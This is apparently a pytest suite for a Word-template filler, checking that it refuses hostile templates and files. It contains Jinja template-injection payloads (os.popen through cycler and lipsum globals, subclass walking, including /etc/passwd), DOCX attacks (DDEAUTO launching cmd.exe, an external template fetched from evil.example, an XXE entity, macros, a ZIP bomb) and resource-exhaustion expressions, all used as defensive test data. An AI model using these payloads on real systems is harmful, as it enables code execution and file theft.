# ruff: noqa: E501  (markup is read whole)
"""Word files of others: attacks, broken tags, broken files. Never code run, never a corrupt file, never a silent blank."""

import io
import warnings
import zipfile
from collections.abc import Sequence

import docx
import pytest

from generator.errors import TemplateError
from generator.render.docx import guard, userdoc
from generator.render.docx.archive import archive, members
from tests.support.gold import seed_record

pytest.importorskip("docxtpl")
RCE = '{{ cycler.__init__.__globals__.os.popen("echo pwned").read() }}'
CONTEXT = {
    "event": {"name": "A & B < C", "date": None},
    "people": [{"name": "沈昌祥", "titles": ["院士", "主任"]}, {"name": "孫克", "titles": []}],
}


def word(*paragraphs: str, rows: Sequence[Sequence[str]] = (), header: str = "", title: str = "") -> bytes:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    if rows:
        table = document.add_table(len(rows), len(rows[0]))
        for row, texts in zip(table.rows, rows, strict=True):
            for cell, text in zip(row.cells, texts, strict=True):
                cell.text = text
    document.sections[0].header.paragraphs[0].text = header
    document.core_properties.title = title
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def with_part(data: bytes, name: str, old: bytes, new: bytes) -> bytes:
    files = members(data)
    assert old in files[name]
    return archive(files | {name: files[name].replace(old, new, 1)})


def refused(data: bytes) -> str:
    with pytest.raises(TemplateError) as caught:
        userdoc.fill(data, CONTEXT, where="mine.docx")
    message = str(caught.value)
    assert message.startswith("mine.docx")
    assert "pwned" not in message.replace("echo pwned", "")
    return message


def test_a_sound_template_is_filled_with_markup_characters_whole() -> None:
    rows = (("{%tr for p in people %}", ""), ("{{ p.name }}", "{{ p.titles }}"), ("{%tr endfor %}", ""))
    data = userdoc.fill(word("{{ event.name }}，{{ event.date }}", rows=rows), CONTEXT)
    filled = docx.Document(io.BytesIO(data))
    assert filled.paragraphs[0].text == "A & B < C，—"
    assert [[cell.text for cell in row.cells] for row in filled.tables[0].rows] == [["沈昌祥", "院士、主任"], ["孫克", "—"]]


def test_the_same_template_and_record_give_the_same_bytes() -> None:
    template = word("{{ event.name }}")
    assert userdoc.fill(template, CONTEXT) == userdoc.fill(template, CONTEXT)


def test_a_record_can_be_asked_for_every_key_of_its_schema() -> None:
    context = userdoc.context_of(seed_record())
    body = "{{ event.name }} {{ event.place }} {{ event.date_end }}"
    rows = (("{%tr for s in signings %}", ""), ("{{ s.parties }}", "{{ s.amount }}"), ("{%tr endfor %}", ""))
    filled = docx.Document(io.BytesIO(userdoc.fill(word(body, rows=rows), context)))
    assert filled.paragraphs[0].text.startswith("蘇州相城(杭州)")
    assert filled.tables[0].rows[0].cells[0].text == "蘇州山西商會、蘇州浙江商會"


CODE = {
    "in the body": word(RCE),
    "in the header": word("x", header=RCE),
    "in the title": word("x", title=RCE),
    "by class": word("{{ event.name.__class__.__mro__[1].__subclasses__() }}"),
    "by filter": word('{{ event|attr("__class__") }}'),
    "by format": word('{{ "{0.__class__}".format(event) }}'),
    "by include": word('{% include "/etc/passwd" %}'),
    "by import": word('{% import "os" as os %}{{ os }}'),
    "by lipsum": word('{{ lipsum.__globals__["os"].popen("echo pwned").read() }}'),
}


@pytest.mark.parametrize("data", CODE.values(), ids=CODE.keys())
def test_code_is_never_run(data: bytes) -> None:
    refused(data)


GREEDY = {
    "five gigabytes": word("{{ 'x' * 5000000000 }}"),
    "a power": word("{{ 10 ** (10 ** 10) }}"),
    "fifty megabytes that pack small": word("{{ 'x' * 50000000 }}"),
}


@pytest.mark.slow
@pytest.mark.parametrize("data", GREEDY.values(), ids=GREEDY.keys())
def test_greed_ends_at_the_limits(data: bytes) -> None:
    refused(data)


BROKEN = {
    "an open tag": (word("x", "{{ title"), "paragraph 2"),
    "an unknown name": (word("x", "{{ event.nam }}"), "paragraph 2"),
    "an unknown filter": (word("{{ event.name|nofilter }}"), "nofilter"),
    "a loop without end": (word("x", "{% for p in people %}"), "paragraph 2"),
    "a row tag outside a table": (word("{%tr for p in people %}", "{%tr endfor %}"), "paragraph 1"),
    "a fault in a cell": (word("x", rows=(("a", "{{ 1/0 }}"),)), "row 1, column 2"),
    "an index too far": (word("x", rows=(("a", "b"), ("{{ people[9].name }}", "d"))), "row 2, column 1"),
    "a broken paragraph tag": (word("{%p if people %}", "y"), "paragraph 1"),
}


@pytest.mark.parametrize(("data", "place"), BROKEN.values(), ids=BROKEN.keys())
def test_each_fault_is_named_with_its_place(data: bytes, place: str) -> None:
    assert place in refused(data)


def _external(data: bytes) -> bytes:
    relation = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    return with_part(data, "word/_rels/document.xml.rels", b"</Relationships>", relation)


def _field(data: bytes, code: bytes) -> bytes:
    """Put a field into the paragraph 內容, its code in two runs."""
    text = "內容</w:t></w:r>".encode()
    run = b"<w:r><w:instrText>%s</w:instrText></w:r>"
    half = len(code) // 2
    begin, end = (b'<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind for kind in (b"begin", b"end"))
    return with_part(data, "word/document.xml", text, text + begin + run % code[:half] + run % code[half:] + end)


def _with(data: bytes, name: str, content: bytes) -> bytes:
    return archive(members(data) | {name: content})


def _zip_bomb() -> bytes:
    return _with(word("x"), "word/media/big.xml", b"<a>" + b" " * 30_000_000 + b"</a>")


def _doubled() -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as target:
        warnings.simplefilter("ignore", UserWarning)
        for name in ("[Content_Types].xml", "word/document.xml", "word/document.xml"):
            target.writestr(name, b"<x/>")
    return buffer.getvalue()


FILES = {
    "an attached template elsewhere": lambda: _external(word("x")),
    "DDE in two runs": lambda: _field(word("內容"), b'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
    "INCLUDETEXT": lambda: _field(word("內容"), b"INCLUDETEXT /etc/passwd"),
    "a macro": lambda: _with(word("x"), "word/vbaProject.bin", b"x"),
    "a macro-enabled type": lambda: with_part(
        word("x"), "[Content_Types].xml", b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    ),
    "an entity": lambda: with_part(word("x"), "word/document.xml", b"?>", b'?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/hostname">]>'),
    "another document inside": lambda: with_part(word("x"), "word/document.xml", b"<w:sectPr", b'<w:altChunk xmlns:q="q"/><w:sectPr'),
    "a ZIP bomb": _zip_bomb,
    "a doubled part": _doubled,
    "an old Word file": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "no Word file": lambda: b"hello",
    "half a file": lambda: word("x")[:3000],
}


@pytest.mark.parametrize("make", FILES.values(), ids=FILES.keys())
def test_what_a_file_may_not_hold_is_refused_before_anything_reads_it(make) -> None:
    with pytest.raises(TemplateError) as caught:
        guard.inspect(make(), "mine.docx")
    assert "mine.docx" in caught.value.where


def test_the_fields_of_the_list_are_let_through() -> None:
    guard.inspect(_field(word("內容"), b"NUMPAGES \\* ARABIC"), "mine.docx")


def test_a_tag_that_is_not_filled_is_found() -> None:
    """Comments are not filled by docxtpl: a tag there would stay as text."""
    document = docx.Document()
    paragraph = document.add_paragraph("x")
    document.add_comment(paragraph.runs[0], text="{{ event.name }}", author="a")
    buffer = io.BytesIO()
    document.save(buffer)
    assert "comments" in refused(buffer.getvalue())


@pytest.mark.slow
def test_two_hundred_mutants_do_no_harm() -> None:
    """The first of the 10,000 of `make docx-mutations`."""
    from tests.conformance import docx_mutations

    counts, bad = docx_mutations.run(200, 0, 1)
    assert bad == []
    assert counts["filled"] > 0
    assert counts["refused"] > 0
